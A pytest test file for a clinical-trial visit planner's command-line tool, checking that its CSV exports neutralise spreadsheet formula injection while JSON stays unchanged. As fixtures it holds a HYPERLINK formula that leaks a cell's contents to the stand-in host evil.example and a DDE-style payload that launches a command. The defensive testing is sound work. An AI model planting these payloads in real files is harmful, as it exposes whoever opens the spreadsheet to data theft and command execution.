"""Every `--format csv` output is safe to open in a spreadsheet (OWASP, CSV
injection): a cell starting with =, +, -, @, a tab or a carriage return gets
a leading ', unless it is a plain number. JSON is left as it is."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from planner.core.csvsafe import safe_cell

Cli = Callable[..., Any]
BUNDLED = Path(__file__).parent.parent / "planner" / "protocols" / "ucmsc-dlc.toml"
LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def ok(result: Any) -> str:
    assert result.exit_code == 0, result.stderr
    return str(result.stdout)


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-7", "-7"),
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("WUH-001", "WUH-001"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell: str, safe: str) -> None:
    assert safe_cell(cell) == safe


@pytest.fixture
def hostile(cli: Cli, tmp_path: Path) -> None:
    """A protocol whose infusion label is a formula, and a move with formula reasons."""
    source = BUNDLED.read_text(encoding="utf-8")
    source = source.replace('id = "ucmsc-dlc"', 'id = "evil"', 1)
    source = source.replace('label = "Infusion"', f"label = '{LABEL}'", 1)
    path = tmp_path / "evil.toml"
    path.write_text(source, encoding="utf-8")
    ok(cli("protocol", "add", str(path)))
    ok(cli("site", "add", "WUH", "--timezone", "Asia/Shanghai"))
    ok(cli("enroll", "E-1", "--protocol", "evil", "--arm", "G1", "--site", "WUH",
           "--day1", "2026-03-02"))  # fmt: skip
    ok(
        cli(
            "visit",
            "move",
            "E-1/FU/1",
            "--to",
            "2026-03-31",
            "--reason",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        )
    )


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    "args",
    [
        ("schedule", "E-1"),
        ("upcoming", "--from", "2026-03-01", "--days", "30"),
        ("due", "--as-of", "2026-03-06"),
        ("overdue", "--as-of", "2026-03-20"),
    ],
)
def test_visit_csv_neutralises_a_formula_label(cli: Cli, args: tuple[str, ...]) -> None:
    out = ok(cli(*args, "--format", "csv"))
    labels = {row["label"] for row in csv.DictReader(io.StringIO(out))}

    assert "'" + LABEL in labels
    assert LABEL not in labels
    as_json = json.loads(ok(cli(*args, "--format", "json")))
    assert LABEL in {visit["label"] for visit in as_json}  # JSON unchanged


@pytest.mark.usefixtures("hostile")
def test_audit_csv_neutralises_a_formula_reason(cli: Cli) -> None:
    rows = list(csv.DictReader(io.StringIO(ok(cli("audit", "E-1", "--format", "csv")))))
    reasons = [row["reason"] for row in rows if row["reason"]]

    assert reasons == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    audit = json.loads(ok(cli("audit", "E-1", "--format", "json")))
    assert [e["reason"] for e in audit if e["reason"]] == ["@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.usefixtures("hostile")
def test_numbers_stay_numbers(cli: Cli) -> None:
    rows = list(csv.DictReader(io.StringIO(ok(cli("schedule", "E-1", "--format", "csv")))))
    assert [row["study_day"] for row in rows][:2] == ["1", "5"]
    assert all(not row["visit_id"].startswith("'") for row in rows)


@pytest.mark.parametrize("cell", ["-7", "+1.5e3", "=1+1", "-x", "@me", "\tx", "plain", "+1+1"])
def test_every_csv_writer_neutralises_alike(cell: str) -> None:
    """The command line's tables, the visit exports and the SDTM CSV: one rule."""
    from planner.cli.tables import csv_value
    from planner.core.sdtm.datasetjson import csv_cell

    assert csv_value(cell) == csv_cell(cell) == safe_cell(cell)
